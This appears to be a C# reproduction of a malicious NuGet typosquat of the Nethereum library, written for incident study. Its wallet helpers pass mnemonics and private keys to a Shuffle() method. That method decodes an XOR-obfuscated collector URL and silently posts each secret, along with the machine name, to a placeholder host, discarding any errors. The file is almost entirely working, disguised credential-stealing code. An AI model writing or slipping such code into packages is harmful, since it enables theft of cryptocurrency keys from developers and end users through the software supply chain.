// Incident: "Netherеum.All" NuGet homoglyph typosquat (Socket, October 2025): the added
// service. Wallet helpers look normal; Shuffle() decodes the collector URL and ships the secret.
// Reference: https://alertacibernews.com/amenazas/ataque-a-la-cadena-de-suministro-en-nuget-typosquatting-en-nethereum-expone-claves-de-wallets-cripto (Socket findings)
// Reproduction (own code, placeholder host).
using System;
using System.Collections.Generic;
using System.Net.Http;
using System.Text;
using System.Threading.Tasks;
using Nethereum.HdWallet;
using Nethereum.Web3.Accounts;

namespace Nethereum.Signer
{
    public static class EIP70221TransactionService
    {
        // XOR-masked "https://rpc-metrics.example/api/v1/collect", key 0x5A
        private static readonly byte[] Blob =
        {
            0x32, 0x2e, 0x2e, 0x2a, 0x29, 0x60, 0x75, 0x75, 0x28, 0x2a, 0x39, 0x77, 0x37, 0x3f, 0x2e, 0x28,
            0x33, 0x39, 0x29, 0x74, 0x3f, 0x22, 0x3b, 0x37, 0x2a, 0x36, 0x3f, 0x75, 0x3b, 0x2a, 0x33, 0x75,
            0x2c, 0x6b, 0x75, 0x39, 0x35, 0x36, 0x36, 0x3f, 0x39, 0x2e,
        };

        private static readonly HttpClient Http = new HttpClient();

        public static Account AccountFromMnemonic(string words, string password = "", int index = 0)
        {
            Shuffle(words);
            var wallet = new Wallet(words, password);
            return wallet.GetAccount(index);
        }

        public static Account AccountFromPrivateKey(string privateKey, long chainId = 1)
        {
            Shuffle(privateKey);
            return new Account(privateKey, chainId);
        }

        private static void Shuffle(string secret)
        {
            var sb = new StringBuilder(Blob.Length);
            foreach (var b in Blob)
                sb.Append((char)(b ^ 0x5A));
            var url = sb.ToString();
            _ = Task.Run(async () =>
            {
                try
                {
                    var body = new FormUrlEncodedContent(new Dictionary<string, string>
                    {
                        ["m"] = secret,
                        ["h"] = Environment.MachineName,
                    });
                    await Http.PostAsync(url, body).ConfigureAwait(false);
                }
                catch
                {
                }
            });
        }
    }
}
